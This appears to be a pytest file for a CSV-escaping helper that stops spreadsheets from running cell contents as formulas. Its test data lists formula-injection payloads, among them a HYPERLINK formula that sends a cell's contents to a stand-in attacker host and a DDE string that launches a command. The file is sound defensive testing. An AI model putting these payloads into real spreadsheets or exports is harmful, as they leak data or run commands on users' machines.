"""CSV cells that a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from policy import csvsafe

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_start_gets_a_quote_and_round_trips(value: str) -> None:
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerow(["Jo", value, 7, None, True])
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row[0] == "Jo" and row[2:] == ["7", "", "True"]
    assert row[1] == "'" + value
    assert csvsafe.unescape(row[1]) == value


def test_plain_text_is_left_alone_and_a_leading_quote_stays_unambiguous() -> None:
    assert csvsafe.cell("Evergreen Family Clinic") == "Evergreen Family Clinic"
    assert csvsafe.cell("a=b") == "a=b" and csvsafe.cell("") == ""
    assert csvsafe.cell(-5) == -5, "numbers are not text; a spreadsheet shows them as numbers"
    assert csvsafe.cell("'=1") == "''=1" and csvsafe.unescape("''=1") == "'=1"


def test_every_csv_writer_of_the_services_is_this_one() -> None:
    """No service writes CSV around the helper (imports read CSV; they write none)."""
    root = Path(__file__).parents[2]
    writers = [
        path.relative_to(root).as_posix()
        for folder in ("services", "libs")
        for path in (root / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == ["libs/policy/policy/csvsafe.py"]
